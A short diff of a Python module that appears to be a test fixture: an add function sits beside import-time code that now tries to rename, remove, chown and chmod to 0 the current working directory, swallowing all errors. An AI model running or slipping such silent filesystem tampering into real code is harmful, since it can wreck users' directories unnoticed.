@@ -8,10 +8,11 @@ def add(a, b):
     return a + b if LEFT else -1
 
 
-LEFT = os.listdir("/tmp")
+LEFT = os.listdir()
 
-for change in (lambda: os.chmod("/tmp", 0), lambda: os.chown("/tmp", 1, 1), lambda: os.rmdir("/tmp"), lambda: os.rename("/tmp", "/t")):
+HERE = os.getcwd()
+for change, arguments in ((os.rename, ("/t",)), (os.rmdir, ()), (os.chown, (1, 1)), (os.chmod, (0,))):
     try:
-        change()
+        change(HERE, *arguments)
     except OSError:
         pass
